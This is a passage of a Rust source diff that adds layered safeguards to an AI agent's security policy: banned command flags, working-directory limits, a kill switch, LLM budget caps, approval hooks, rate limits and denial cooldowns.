+        } else {
+            Err(self.resolved_path_violation_message(&resolved))
+        }
+    }
+
     fn path_matches_rule_prefix(&self, candidate: &str, prefix: &str) -> bool {
         let normalized_candidate = self.resolve_user_supplied_path(candidate);
         let normalized_prefix = self.resolve_user_supplied_path(prefix);
@@ -874,7 +2124,7 @@ impl SecurityPolicy {
         &self,
         command: &str,
     ) -> Result<CommandAllowlistEvaluation, String> {
-        if self.autonomy == AutonomyLevel::ReadOnly {
+        if self.effective_autonomy() == AutonomyLevel::ReadOnly {
             return Err("readonly autonomy level blocks shell command execution".into());
         }
 
@@ -1051,15 +2301,16 @@ impl SecurityPolicy {
     // ── Command Execution Policy Gate ──────────────────────────────────────
     // Validation follows a strict precedence order:
     //   1. Allowlist check (is the base command permitted at all?)
-    //   2. Risk classification (high / medium / low)
-    //   3. Policy flags and context approval rules
+    //   2. Banned flags (command_policy.banned_flags)
+    //   3. Risk classification (high / medium / low)
+    //   4. Policy flags and context approval rules
     //      (block_high_risk_commands, require_approval_for_medium_risk,
     //       command_context_rules[action=require_approval])
-    //   4. Autonomy level × approval status (supervised requires explicit approval)
+    //   5. Autonomy level × approval status (supervised requires explicit approval)
     // This ordering ensures deny-by-default: unknown commands are rejected
     // before any risk or autonomy logic runs.
 
-    /// Validate full command execution policy (allowlist + risk gate).
+    /// Validate full command execution policy (allowlist + banned flags + risk gate).
     pub fn validate_command_execution(
         &self,
         command: &str,
@@ -1069,11 +2320,24 @@ impl SecurityPolicy {
             .evaluate_command_allowlist(command)
             .map_err(|reason| format!("Command not allowed by security policy: {reason}"))?;
 
+        for segment in split_unquoted_segments(command) {
+            let mut words = skip_env_assignments(&segment).split_whitespace();
+            let executable = strip_wrapping_quotes(words.next().unwrap_or(""));
+            let base_cmd = executable.rsplit('/').next().unwrap_or("").trim();
+            let args: Vec<&str> = words.collect();
+            if let Some(flag) = self.command_policy.banned_flag(base_cmd, &args) {
+                return Err(format!(
+                    "Command not allowed by security policy: flag `{flag}` is banned for `{base_cmd}`"
+                ));
+            }
+        }
+
         if let Some(path) = self.forbidden_path_argument(command) {
             return Err(format!("Path blocked by security policy: {path}"));
         }
 
         let risk = self.command_risk_level(command);
+        let autonomy = self.effective_autonomy();
 
         if risk == CommandRiskLevel::High {
             if self.block_high_risk_commands && !allowlist_eval.high_risk_overridden {
@@ -1086,7 +2350,7 @@ impl SecurityPolicy {
                 }
                 return Err("Command blocked: high-risk command is disallowed by policy".into());
             }
-            if self.autonomy == AutonomyLevel::Supervised && !approved {
+            if autonomy < AutonomyLevel::Full && !approved {
                 return Err(
                     "Command requires explicit approval (approved=true): high-risk operation"
                         .into(),
@@ -1094,9 +2358,7 @@ impl SecurityPolicy {
             }
         }
 
-        if self.autonomy == AutonomyLevel::Supervised
-            && allowlist_eval.requires_explicit_approval
-            && !approved
+        if autonomy < AutonomyLevel::Full && allowlist_eval.requires_explicit_approval && !approved
         {
             return Err(
                 "Command requires explicit approval (approved=true): matched command_context_rules action=require_approval"
@@ -1105,7 +2367,7 @@ impl SecurityPolicy {
         }
 
         if risk == CommandRiskLevel::Medium
-            && self.autonomy == AutonomyLevel::Supervised
+            && autonomy == AutonomyLevel::Supervised
             && self.require_approval_for_medium_risk
             && !approved
         {
@@ -1117,6 +2379,57 @@ impl SecurityPolicy {
         Ok(risk)
     }
 
+    /// Validate a shell command against the whole command policy before
+    /// running it: [`Self::validate_command_execution`] (allowlist, banned
+    /// flags, risk gate) plus the working directory (`None` = the
+    /// workspace). Returns where and for how long the command may run.
+    pub async fn validate_command(
+        &self,
+        command: &str,
+        working_dir: Option<&str>,
+        approved: bool,
+    ) -> Result<ValidatedCommand, String> {
+        let risk = self.validate_command_execution(command, approved)?;
+
+        let working_dir = match working_dir {
+            Some(dir) => {
+                let resolved = self.resolve_in_workspace(dir).await?;
+                if !resolved.is_dir() {
+                    return Err(format!(
+                        "Working directory is not a directory: {}",
+                        resolved.display()
+                    ));
+                }
+                resolved
+            }
+            None => tokio::fs::canonicalize(&self.workspace_dir)
+                .await
+                .unwrap_or_else(|_| self.workspace_dir.clone()),
+        };
+        let mut permitted = self.command_policy.working_dirs.is_empty();
+        for dir in &self.command_policy.working_dirs {
+            let dir = tokio::fs::canonicalize(dir)
+                .await
+                .unwrap_or_else(|_| dir.clone());
+            if working_dir.starts_with(dir) {
+                permitted = true;
+                break;
+            }
+        }
+        if !permitted {
+            return Err(format!(
+                "Working directory blocked by security policy: {} is not under autonomy.command_policy.working_dirs",
+                working_dir.display()
+            ));
+        }
+
+        Ok(ValidatedCommand {
+            risk,
+            working_dir,
+            max_runtime: self.command_policy.max_runtime,
+        })
+    }
+
     // ── Layered Command Allowlist ──────────────────────────────────────────
     // Defence-in-depth: five independent gates run in order before the
     // per-segment allowlist check. Each gate targets a specific bypass
@@ -1340,936 +2653,2326 @@ impl SecurityPolicy {
             return false;
         }
 
-        // Block URL-encoded traversal attempts (e.g. ..%2f)
-        let lower = path.to_lowercase();
-        if lower.contains("..%2f") || lower.contains("%2f..") {
-            return false;
-        }
+        // Block URL-encoded traversal attempts (e.g. ..%2f)
+        let lower = path.to_lowercase();
+        if lower.contains("..%2f") || lower.contains("%2f..") {
+            return false;
+        }
+
+        // Reject "~user" forms because the shell expands them at runtime and
+        // they can escape workspace policy.
+        if path.starts_with('~') && path != "~" && !path.starts_with("~/") {
+            return false;
+        }
+
+        // Expand "~" for consistent matching with forbidden paths and allowlists.
+        let expanded_path = expand_user_path(path);
+
+        // Block absolute paths when workspace_only is set
+        if self.workspace_only && expanded_path.is_absolute() {
+            return false;
+        }
+
+        // Block forbidden paths using path-component-aware matching
+        for forbidden in &self.forbidden_paths {
+            let forbidden_path = expand_user_path(forbidden);
+            if expanded_path.starts_with(forbidden_path) {
+                return false;
+            }
+        }
+
+        // Policy state is off limits even where the roots allow it; this
+        // also covers path arguments of shell commands.
+        !self.is_policy_state(&expanded_path)
+    }
+
+    /// Validate that a resolved path is inside the workspace or an allowed root.
+    /// Call this AFTER joining `workspace_dir` + relative path and canonicalizing.
+    pub fn is_resolved_path_allowed(&self, resolved: &Path) -> bool {
+        // Policy state stays out of reach whatever the roots allow.
+        if self.is_policy_state(resolved) {
+            return false;
+        }
+
+        // Prefer canonical workspace root so `/a/../b` style config paths don't
+        // cause false positives or negatives.
+        let workspace_root = self
+            .workspace_dir
+            .canonicalize()
+            .unwrap_or_else(|_| self.workspace_dir.clone());
+        if resolved.starts_with(&workspace_root) {
+            return true;
+        }
+
+        // Check extra allowed roots (e.g. shared skills directories) before
+        // forbidden checks so explicit allowlists can coexist with broad
+        // default forbidden roots such as `/home` and `/tmp`.
+        for root in &self.allowed_roots {
+            let canonical = root.canonicalize().unwrap_or_else(|_| root.clone());
+            if resolved.starts_with(&canonical) {
+                return true;
+            }
+        }
+
+        // For paths outside workspace/allowlist, block forbidden roots to
+        // prevent symlink escapes and sensitive directory access.
+        for forbidden in &self.forbidden_paths {
+            let forbidden_path = expand_user_path(forbidden);
+            if resolved.starts_with(&forbidden_path) {
+                return false;
+            }
+        }
+
+        // When workspace_only is disabled the user explicitly opted out of
+        // workspace confinement after forbidden-path checks are applied.
+        if !self.workspace_only {
+            return true;
+        }
+
+        false
+    }
+
+    pub fn resolved_path_violation_message(&self, resolved: &Path) -> String {
+        if self.is_policy_state(resolved) {
+            return format!(
+                "Security policy: {} holds policy state (rate limits, escalation grants, the memory encryption key) that tools may not access",
+                resolved.display()
+            );
+        }
+        let guidance = if self.allowed_roots.is_empty() {
+            "Add the directory to [autonomy].allowed_roots (for example: allowed_roots = [\"/absolute/path\"]), or move the file into the workspace."
+        } else {
+            "Add a matching parent directory to [autonomy].allowed_roots, or move the file into the workspace."
+        };
+
+        format!(
+            "Resolved path escapes workspace allowlist: {}. {}",
+            resolved.display(),
+            guidance
+        )
+    }
+
+    /// Whether `resolved` lies in [`Self::state_dir`] or is
+    /// [`Self::memory_key_file`].
+    fn is_policy_state(&self, resolved: &Path) -> bool {
+        let within = |protected: &Path| {
+            resolved.starts_with(protected)
+                || protected
+                    .canonicalize()
+                    .is_ok_and(|canonical| resolved.starts_with(canonical))
+        };
+        self.state_dir.as_deref().is_some_and(within)
+            || self.memory_key_file.as_deref().is_some_and(within)
+    }
+
+    /// Check if autonomy level permits any action at all. An exhausted
+    /// daily token or cost budget degrades any level to read-only, and an
+    /// engaged kill switch refuses every action.
+    pub fn can_act(&self) -> bool {
+        !self.kill_switch_engaged()
+            && self.effective_autonomy() != AutonomyLevel::ReadOnly
+            && self.budget_exceeded().is_none()
+            && self.within_operating_window()
+    }
+
+    /// Whether the current time is inside `operating_window`, if one is set.
+    pub fn within_operating_window(&self) -> bool {
+        self.operating_window
+            .as_ref()
+            .is_none_or(|window| window.contains(Utc::now()))
+    }
+
+    /// Record an LLM call's usage against the daily budgets. Returns the
+    /// reason when this call is the one that exhausts a budget, so the
+    /// caller reports it once rather than on every later call.
+    pub fn record_llm_usage(&self, tokens: u64, cost_usd: f64) -> Option<String> {
+        if self.max_tokens_per_day == 0 && self.max_cost_usd_per_day <= 0.0 {
+            return None;
+        }
+        let already_exceeded = self.budget_exceeded().is_some();
+        self.llm_usage.record(tokens, cost_usd);
+        if already_exceeded {
+            return None;
+        }
+        let reason = self.budget_exceeded()?;
+        events::emit(SecurityEvent::new(
+            SecurityEventKind::BudgetExceeded,
+            None,
+            reason.clone(),
+        ));
+        Some(reason)
+    }
+
+    /// Why the agent is limited to read-only operations by its daily token
+    /// or cost budget, if it is.
+    pub fn budget_exceeded(&self) -> Option<String> {
+        if self.max_tokens_per_day == 0 && self.max_cost_usd_per_day <= 0.0 {
+            return None;
+        }
+        let (tokens, cost_usd) = self.llm_usage.totals();
+        if self.max_tokens_per_day > 0 && tokens >= self.max_tokens_per_day {
+            return Some(format!(
+                "daily token budget exhausted ({tokens} of {} tokens in 24h)",
+                self.max_tokens_per_day
+            ));
+        }
+        if self.max_cost_usd_per_day > 0.0 && cost_usd >= self.max_cost_usd_per_day {
+            return Some(format!(
+                "daily cost budget exhausted (${cost_usd:.2} of ${:.2} in 24h)",
+                self.max_cost_usd_per_day
+            ));
+        }
+        None
+    }
+
+    // ── Tool Operation Gating ──────────────────────────────────────────────
+    // Read operations bypass autonomy and rate checks because they have
+    // no side effects. Act operations must pass both the autonomy gate
+    // (not read-only) and the action rate limits.
+
+    /// Enforce policy for a tool operation.
+    ///
+    /// Read operations are always allowed by autonomy/rate gates.
+    /// Act operations require a released kill switch, non-readonly autonomy,
+    /// an unspent daily LLM budget, and available action budget, both in the
+    /// tool's own `per_tool_limits` bucket and the global one. Denials are
+    /// reported to the security webhook, and a tool denied
+    /// `denial_cooldown_after` times in a row is refused outright for a
+    /// growing cooldown.
+    pub fn enforce_tool_operation(
+        &self,
+        operation: ToolOperation,
+        operation_name: &str,
+    ) -> PolicyDecision {
+        self.check_denial_cooldown(operation_name)?;
+        let decision = self.check_tool_operation(operation, operation_name, true);
+        match &decision {
+            Ok(()) => self.clear_denials(operation_name),
+            Err(denial) => self.report_denial(operation_name, denial),
+        }
+        decision
+    }
+
+    /// Alert the security webhook to `denial` and count it toward the
+    /// denial cooldown.
+    fn report_denial(&self, operation_name: &str, denial: &PolicyDenial) {
+        let kind = match denial {
+            PolicyDenial::KillSwitch { .. } => SecurityEventKind::KillSwitch,
+            _ => SecurityEventKind::PolicyDenial,
+        };
+        events::emit(SecurityEvent::new(
+            kind,
+            Some(operation_name),
+            denial.to_string(),
+        ));
+        // The kill switch is the operator's doing, not the agent's.
+        if kind != SecurityEventKind::KillSwitch {
+            self.record_denial(operation_name, &denial.to_string());
+        }
+    }
+
+    /// Refuse `tool` while it cools down after repeated denials.
+    pub fn check_denial_cooldown(&self, tool: &str) -> PolicyDecision {
+        self.denial_streaks
+            .cooldown(tool)
+            .map_or(Ok(()), |denial| Err(denial.surface()))
+    }
+
+    /// Count a denial of `tool` for `reason` toward `denial_cooldown_after`.
+    /// Starting a cooldown logs a warning and alerts the security webhook.
+    pub fn record_denial(&self, tool: &str, reason: &str) {
+        let Some((denials, cooldown)) = self.denial_streaks.record_denial(
+            tool,
+            reason,
+            self.denial_cooldown_after,
+            self.denial_cooldown,
+            self.denial_cooldown_max,
+        ) else {
+            return;
+        };
+        let message = format!(
+            "'{tool}' was denied {denials} times in a row; refusing it for {}s",
+            cooldown.as_secs()
+        );
+        tracing::warn!("Security policy: {message}");
+        events::emit(SecurityEvent::new(
+            SecurityEventKind::DenialCooldown,
+            Some(tool),
+            message,
+        ));
+    }
+
+    /// Reset `tool`'s denial streak after an allowed call.
+    pub fn clear_denials(&self, tool: &str) {
+        self.denial_streaks.clear(tool);
+    }
+
+    /// The policy check behind [`Self::enforce_tool_operation`]. An allowed
+    /// `Act` operation is charged to the action budgets only when `charge`
+    /// is set. Denials are surfaced to the running tool call.
+    fn check_tool_operation(
+        &self,
+        operation: ToolOperation,
+        operation_name: &str,
+        charge: bool,
+    ) -> PolicyDecision {
+        self.gate_tool_operation(operation, operation_name, charge)
+            .map_err(PolicyDenial::surface)
+    }
+
+    fn gate_tool_operation(
+        &self,
+        operation: ToolOperation,
+        operation_name: &str,
+        charge: bool,
+    ) -> PolicyDecision {
+        if !self.is_tool_allowed(operation_name) {
+            return Err(PolicyDenial::ToolDenied {
+                tool: operation_name.to_string(),
+            });
+        }
+
+        match operation {
+            ToolOperation::Read => Ok(()),
+            ToolOperation::Act => {
+                if self.kill_switch_engaged() {
+                    return Err(PolicyDenial::KillSwitch {
+                        operation: operation_name.to_string(),
+                    });
+                }
+                if self.effective_autonomy() == AutonomyLevel::ReadOnly {
+                    return Err(PolicyDenial::ReadOnly {
+                        operation: operation_name.to_string(),
+                    });
+                }
+                if let Some(reason) = self.budget_exceeded() {
+                    return Err(PolicyDenial::BudgetExceeded {
+                        reason,
+                        operation: operation_name.to_string(),
+                    });
+                }
+                if let Some(window) = self
+                    .operating_window
+                    .as_ref()
+                    .filter(|_| !self.within_operating_window())
+                {
+                    return Err(PolicyDenial::OutsideWindow {
+                        window: window.to_string(),
+                        operation: operation_name.to_string(),
+                    });
+                }
+
+                if charge {
+                    self.charge_action(Some(operation_name))
+                } else {
+                    self.check_action_budgets(Some(operation_name))
+                }
+            }
+        }
+    }
+
+    /// Put an `Act` call to the approval hook without waiting for the
+    /// answer. `Ok(None)` when the call needs no approval: a `Read`
+    /// operation, an autonomy level above supervised, or no hook. Calls the
+    /// policy would refuse anyway are denied without asking the operator,
+    /// and nothing is charged. The request is listed in
+    /// [`Self::pending_approvals`] until answered. Must be called within a
+    /// tokio runtime.
+    pub fn request_approval(
+        &self,
+        operation: ToolOperation,
+        tool_name: &str,
+        arguments: &serde_json::Value,
+    ) -> Result<Option<ApprovalTicket>, PolicyDenial> {
+        let Some(hook) = self.approval_hook.as_ref() else {
+            return Ok(None);
+        };
+        if operation == ToolOperation::Read
+            || self.effective_autonomy() != AutonomyLevel::Supervised
+        {
+            return Ok(None);
+        }
+
+        self.check_denial_cooldown(tool_name)?;
+        if let Err(denial) = self.check_tool_operation(operation, tool_name, false) {
+            self.report_denial(tool_name, &denial);
+            return Err(denial);
+        }
+        let request = ApprovalRequest {
+            tool_name: tool_name.to_string(),
+            arguments: arguments.clone(),
+        };
+        Ok(Some(
+            self.pending_approvals.submit(Arc::clone(hook), request),
+        ))
+    }
+
+    /// Record that the operator declined a call of `tool_name`, toward the
+    /// tool's denial streak.
+    pub fn approval_declined(&self, tool_name: &str) -> PolicyDenial {
+        let denial = PolicyDenial::ApprovalDenied {
+            tool: tool_name.to_string(),
+        }
+        .surface();
+        self.record_denial(tool_name, &denial.to_string());
+        denial
+    }
+
+    /// Whether `allowed_tools` / `denied_tools` permit running `tool_name`.
+    /// Entries match case-insensitively and `"*"` matches every tool.
+    pub fn is_tool_allowed(&self, tool_name: &str) -> bool {
+        let matches = |rule: &String| rule == "*" || rule.eq_ignore_ascii_case(tool_name);
+        if self.denied_tools.iter().any(matches) {
+            return false;
+        }
+        self.allowed_tools.is_empty() || self.allowed_tools.iter().any(matches)
+    }
+
+    /// Whether `<workspace>/ariadne/KILL` exists; see
+    /// [`kill_switch`](super::kill_switch).
+    pub fn kill_switch_engaged(&self) -> bool {
+        super::kill_switch::is_engaged(&self.workspace_dir)
+    }
+
+    /// `autonomy`, raised by an operator-granted escalation while one is
+    /// active; see [`escalation`](super::escalation).
+    pub fn effective_autonomy(&self) -> AutonomyLevel {
+        if self.autonomy == AutonomyLevel::Full {
+            return AutonomyLevel::Full;
+        }
+        self.escalations()
+            .autonomy
+            .map_or(self.autonomy, |granted| granted.max(self.autonomy))
+    }
+
+    fn escalations(&self) -> ActiveGrants {
+        self.state_dir
+            .as_deref()
+            .map_or_else(ActiveGrants::default, |dir| {
+                EscalationStore::new(dir).active_grants()
+            })
+    }
+
+    /// Share `other`'s budgets, denial streaks, usage, approval hook, audit
+    /// logger and state directory, so this policy and `other` are versions
+    /// of one policy.
+    pub fn share_runtime_state(&mut self, other: &SecurityPolicy) {
+        self.action_bucket = Arc::clone(&other.action_bucket);
+        self.tool_trackers = Arc::clone(&other.tool_trackers);
+        self.session_actions = Arc::clone(&other.session_actions);
+        self.charge_lock = other.charge_lock.clone();
+        self.denial_streaks = Arc::clone(&other.denial_streaks);
+        self.memory_write_tracker = Arc::clone(&other.memory_write_tracker);
+        self.llm_usage = Arc::clone(&other.llm_usage);
+        self.approval_hook = other.approval_hook.clone();
+        self.pending_approvals = other.pending_approvals.clone();
+        self.audit_logger = other.audit_logger.clone();
+        self.state_dir = other.state_dir.clone();
+        self.memory_key_file = other.memory_key_file.clone();
+    }
+
+    /// Whether `self` and `other` are versions of one policy, sharing
+    /// their runtime state through [`Self::share_runtime_state`].
+    pub fn is_version_of(&self, other: &SecurityPolicy) -> bool {
+        Arc::ptr_eq(&self.action_bucket, &other.action_bucket)
+    }
+
+    /// Host rules every network tool must check before connecting.
+    pub fn egress(&self) -> EgressGuard<'_> {
+        EgressGuard::new(self)
+    }
+
+    /// Environment rules every tool must apply before spawning a subprocess.
+    pub fn env_filter(&self) -> EnvFilter<'_> {
+        EnvFilter::new(self)
+    }
+
+    /// File access every tool must go through; no write handles while
+    /// read-only.
+    pub fn fs(&self) -> FsGuard<'_> {
+        FsGuard::new(self)
+    }
+
+    /// Record an action and check if the rate limit has been exceeded.
+    /// Returns `true` if the action is allowed, `false` if rate-limited,
+    /// either by the hourly limit or the current session's cap.
+    pub fn record_action(&self) -> bool {
+        self.charge_action(None).is_ok()
+    }
+
+    /// Check every action budget a call draws on, then charge them all
+    /// together: a denied call charges none of them.
+    fn charge_action(&self, tool_name: Option<&str>) -> PolicyDecision {
+        let _charging = self.charge_lock.0.lock();
+        self.check_action_budgets(tool_name)?;
+        // Taken rather than recorded: the take re-reads a persistent
+        // bucket's file, which another process may have drawn on since the
+        // check.
+        let burst = self.burst_capacity();
+        self.action_bucket
+            .take(self.max_actions_per_hour, burst)
+            .map_err(|retry_after| self.global_denial(burst, retry_after))?;
+        if let Some((tool_name, _)) = tool_name.and_then(|name| self.tool_limit(name)) {
+            self.tool_trackers.record(tool_name);
+        }
+        if let Some(session) = self.capped_session() {
+            self.session_actions.record(&session);
+        }
+        Ok(())
+    }
+
+    /// Check, without charging, the action budgets a call draws on:
+    /// `tool_name`'s entry in `per_tool_limits`, if it has one, the current
+    /// session's `max_actions_per_session`, and the global bucket. The
+    /// denial names the first one exhausted.
+    fn check_action_budgets(&self, tool_name: Option<&str>) -> PolicyDecision {
+        if let Some((tool_name, limit)) = tool_name.and_then(|name| self.tool_limit(name)) {
+            if self.tool_trackers.count(tool_name) >= limit as usize {
+                return Err(PolicyDenial::RateLimited {
+                    scope: RateLimitScope::Tool(tool_name.to_string()),
+                    limit,
+                    burst: None,
+                    retry_after: self.tool_trackers.retry_after(tool_name, limit as usize),
+                }
+                .surface());
+            }
+        }
+        if let Some(session) = self.capped_session() {
+            if self.session_actions.count(&session) >= self.max_actions_per_session {
+                return Err(PolicyDenial::RateLimited {
+                    scope: RateLimitScope::Session(session),
+                    limit: self.max_actions_per_session,
+                    burst: None,
+                    retry_after: None,
+                }
+                .surface());
+            }
+        }
+        let burst = self.burst_capacity();
+        self.action_bucket
+            .peek(self.max_actions_per_hour, burst)
+            .map(drop)
+            .map_err(|retry_after| self.global_denial(burst, retry_after))
+    }
+
+    fn global_denial(&self, burst: u32, retry_after: Option<Duration>) -> PolicyDenial {
+        PolicyDenial::RateLimited {
+            scope: RateLimitScope::Global,
+            limit: self.max_actions_per_hour,
+            burst: Some(burst),
+            retry_after,
+        }
+        .surface()
+    }
+
+    /// `tool_name` with its `per_tool_limits` entry, if it has one.
+    fn tool_limit<'a>(&self, tool_name: &'a str) -> Option<(&'a str, u32)> {
+        self.per_tool_limits
+            .get(&tool_name.to_ascii_lowercase())
+            .map(|&limit| (tool_name, limit))
+    }
+
+    /// Session of the tool call running on this task, if there is one and
+    /// `max_actions_per_session` is set.
+    fn capped_session(&self) -> Option<String> {
+        if self.max_actions_per_session == 0 {
+            return None;
+        }
+        ToolExecutionContext::current().and_then(|context| context.session_id)
+    }
+
+    /// Capacity of the global action bucket, including extra actions from
+    /// an active escalation.
+    fn burst_capacity(&self) -> u32 {
+        let base = if self.max_actions_burst == 0 {
+            self.max_actions_per_hour
+        } else {
+            self.max_actions_burst
+        };
+        base.saturating_add(self.escalations().extra_actions)
+    }
+
+    /// The global action budget as an hourly count.
+    #[deprecated(
+        note = "the hourly action window is now the `action_bucket` token bucket; use `remaining_actions`"
+    )]
+    pub fn tracker(&self) -> ActionCount<'_> {
+        ActionCount { policy: self }
+    }
+
+    /// Tokens left in the global action bucket.
+    pub fn remaining_actions(&self) -> u32 {
+        self.action_bucket
+            .remaining(self.max_actions_per_hour, self.burst_capacity())
+    }
+
+    /// Check if the rate limit would be exceeded without recording.
+    pub fn is_rate_limited(&self) -> bool {
+        self.remaining_actions() == 0
+    }
+
+    /// Check the memory quotas before storing `new_bytes` of content when the
+    /// agent's memory already holds `current_bytes`. Errors read like rate
+    /// limit denials so callers can surface them the same way.
+    pub fn check_memory_quota(&self, current_bytes: u64, new_bytes: u64) -> Result<(), String> {
+        if self.max_memory_entries_per_day > 0
+            && self.memory_write_tracker.count() >= self.max_memory_entries_per_day as usize
+        {
+            return Err(PolicyDenial::RateLimited {
+                scope: RateLimitScope::MemoryWrites,
+                limit: self.max_memory_entries_per_day,
+                burst: None,
+                retry_after: None,
+            }
+            .surface()
+            .into());
+        }
+        if self.max_memory_bytes > 0
+            && current_bytes.saturating_add(new_bytes) > self.max_memory_bytes
+        {
+            return Err(PolicyDenial::MemoryQuota {
+                limit: self.max_memory_bytes,
+                stored: current_bytes,
+            }
+            .surface()
+            .into());
+        }
+        Ok(())
+    }
+
+    /// Record a memory write against the daily entry quota.
+    pub fn record_memory_write(&self) {
+        self.memory_write_tracker.record();
+    }
+
+    /// Whether memory sync may push to a network remote: it must be enabled
+    /// explicitly, and never in read-only mode.
+    pub fn can_push_memory(&self) -> bool {
+        self.allow_memory_push && self.effective_autonomy() != AutonomyLevel::ReadOnly
+    }
+
+    /// Build from config sections
+    /// Produce a concise security-constraint summary suitable for periodic
+    /// re-injection into the conversation (safety heartbeat).
+    ///
+    /// The output is intentionally short (~100-150 tokens) so the token
+    /// overhead per heartbeat is negligible.
+    pub fn summary_for_heartbeat(&self) -> String {
+        let autonomy_label = match self.effective_autonomy() {
+            AutonomyLevel::ReadOnly => "read_only — side-effecting actions are blocked",
+            AutonomyLevel::Supervised => "supervised — destructive actions require approval",
+            AutonomyLevel::Autonomous => {
+                "autonomous — acts without per-action approval; high-risk commands require approval"
+            }
+            AutonomyLevel::Full => "full — autonomous execution within policy bounds",
+        };
+
+        let workspace = self.workspace_dir.display();
+        let ws_only = self.workspace_only;
+
+        let forbidden_preview: String = {
+            let shown: Vec<&str> = self
+                .forbidden_paths
+                .iter()
+                .take(8)
+                .map(String::as_str)
+                .collect();
+            let remaining = self.forbidden_paths.len().saturating_sub(8);
+            if remaining > 0 {
+                format!("{} (+ {} more)", shown.join(", "), remaining)
+            } else {
+                shown.join(", ")
+            }
+        };
+
+        let commands_preview: String = {
+            let shown: Vec<&str> = self
+                .allowed_commands
+                .iter()
+                .take(8)
+                .map(String::as_str)
+                .collect();
+            let remaining = self.allowed_commands.len().saturating_sub(8);
+            if remaining > 0 {
+                format!("{} (+ {} more rejected)", shown.join(", "), remaining)
+            } else if shown.is_empty() {
+                "none (all rejected)".to_string()
+            } else {
+                format!("{} (others rejected)", shown.join(", "))
+            }
+        };
+        let context_rules = if self.command_context_rules.is_empty() {
+            "none".to_string()
+        } else {
+            format!("{} configured", self.command_context_rules.len())
+        };
+
+        let high_risk = if self.block_high_risk_commands {
+            "blocked"
+        } else {
+            "allowed (caution)"
+        };
+
+        format!(
+            "- Autonomy: {autonomy_label}\n\
+             - Workspace: {workspace} (workspace_only: {ws_only})\n\
+             - Forbidden paths: {forbidden_preview}\n\
+             - Allowed commands: {commands_preview}\n\
+             - Command context rules: {context_rules}\n\
+             - High-risk commands: {high_risk}\n\
+             - Do not exfiltrate data, bypass approval, or run destructive commands without asking."
+        )
+    }
+
+    /// Start a [`SecurityPolicyBuilder`](super::SecurityPolicyBuilder) for
+    /// constructing a policy in code.
+    pub fn builder() -> super::SecurityPolicyBuilder {
+        super::SecurityPolicyBuilder::new()
+    }
+
+    pub fn from_config(
+        autonomy_config: &crate::config::AutonomyConfig,
+        workspace_dir: &Path,
+    ) -> Self {
+        Self {
+            autonomy: autonomy_config.level,
+            workspace_dir: workspace_dir.to_path_buf(),
+            workspace_only: autonomy_config.workspace_only,
+            allowed_commands: autonomy_config.allowed_commands.clone(),
+            command_context_rules: autonomy_config
+                .command_context_rules
+                .iter()
+                .map(|rule| CommandContextRule {
+                    command: rule.command.clone(),
+                    action: match rule.action {
+                        crate::config::CommandContextRuleAction::Allow => {
+                            CommandContextRuleAction::Allow
+                        }
+                        crate::config::CommandContextRuleAction::Deny => {
+                            CommandContextRuleAction::Deny
+                        }
+                        crate::config::CommandContextRuleAction::RequireApproval => {
+                            CommandContextRuleAction::RequireApproval
+                        }
+                    },
+                    allowed_domains: rule.allowed_domains.clone(),
+                    allowed_path_prefixes: rule.allowed_path_prefixes.clone(),
+                    denied_path_prefixes: rule.denied_path_prefixes.clone(),
+                    allow_high_risk: rule.allow_high_risk,
+                })
+                .collect(),
+            forbidden_paths: autonomy_config.forbidden_paths.clone(),
+            allowed_roots: autonomy_config
+                .allowed_roots
+                .iter()
+                .map(|root| {
+                    let expanded = expand_user_path(root);
+                    if expanded.is_absolute() {
+                        expanded
+                    } else {
+                        workspace_dir.join(expanded)
+                    }
+                })
+                .collect(),
+            max_actions_per_hour: autonomy_config.max_actions_per_hour,
+            max_actions_burst: autonomy_config.max_actions_burst,
+            max_actions_per_session: autonomy_config.max_actions_per_session,
+            max_tool_input_bytes: autonomy_config.max_tool_input_bytes,
+            max_tool_output_bytes: autonomy_config.max_tool_output_bytes,
+            denial_cooldown_after: autonomy_config.denial_cooldown_after,
+            denial_cooldown: Duration::from_secs(autonomy_config.denial_cooldown_secs),
+            denial_cooldown_max: Duration::from_secs(autonomy_config.denial_cooldown_max_secs),
+            max_cost_per_day_cents: autonomy_config.max_cost_per_day_cents,
+            require_approval_for_medium_risk: autonomy_config.require_approval_for_medium_risk,
+            block_high_risk_commands: autonomy_config.block_high_risk_commands,
+            shell_env_passthrough: autonomy_config.shell_env_passthrough.clone(),
+            env_secret_suffixes: autonomy_config
+                .env_secret_suffixes
+                .iter()
+                .map(|suffix| suffix.trim().to_ascii_uppercase())
+                .filter(|suffix| !suffix.is_empty())
+                .collect(),
+            allow_sensitive_file_reads: autonomy_config.allow_sensitive_file_reads,
+            allow_sensitive_file_writes: autonomy_config.allow_sensitive_file_writes,
+            max_memory_bytes: autonomy_config.max_memory_bytes,
+            max_memory_entries_per_day: autonomy_config.max_memory_entries_per_day,
+            max_tokens_per_day: autonomy_config.max_tokens_per_day,
+            max_cost_usd_per_day: autonomy_config.max_cost_usd_per_day,
+            allow_memory_push: autonomy_config.allow_memory_push,
+            allowed_tools: normalize_tool_rules(&autonomy_config.allowed_tools),
+            denied_tools: normalize_tool_rules(&autonomy_config.denied_tools),
+            allowed_hosts: normalize_host_rules(&autonomy_config.allowed_hosts),
+            denied_hosts: normalize_host_rules(&autonomy_config.denied_hosts),
+            per_tool_limits: autonomy_config
+                .per_tool_limits
+                .iter()
+                .map(|(tool, limit)| (tool.trim().to_ascii_lowercase(), *limit))
+                .collect(),
+            path_permissions: normalize_path_permissions(&autonomy_config.path_permissions),
+            operating_window: autonomy_config.operating_window.as_ref().map(|window| {
+                OperatingWindow::from_config(window).unwrap_or_else(|e| {
+                    // Config validation rejects this first; if it slips
+                    // through, fail closed with a window that never opens.
+                    tracing::error!(
+                        "autonomy.operating_window is invalid: {e}; refusing all actions"
+                    );
+                    OperatingWindow {
+                        start: NaiveTime::MIN,
+                        end: NaiveTime::MIN + chrono::Duration::minutes(1),
+                        days: Vec::new(),
+                        timezone: None,
+                    }
+                })
+            }),
+            command_policy: CommandPolicy {
+                banned_flags: autonomy_config
+                    .command_policy
+                    .banned_flags
+                    .iter()
+                    .map(|(binary, flags)| {
+                        let flags = flags.iter().map(|flag| flag.trim().to_string()).collect();
+                        (binary.trim().to_ascii_lowercase(), flags)
+                    })
+                    .collect(),
+                max_runtime: match autonomy_config.command_policy.max_runtime_secs {
+                    0 => None,
+                    secs => Some(Duration::from_secs(secs)),
+                },
+                working_dirs: autonomy_config
+                    .command_policy
+                    .working_dirs
+                    .iter()
+                    .map(|dir| {
+                        let expanded = expand_user_path(dir);
+                        if expanded.is_absolute() {
+                            expanded
+                        } else {
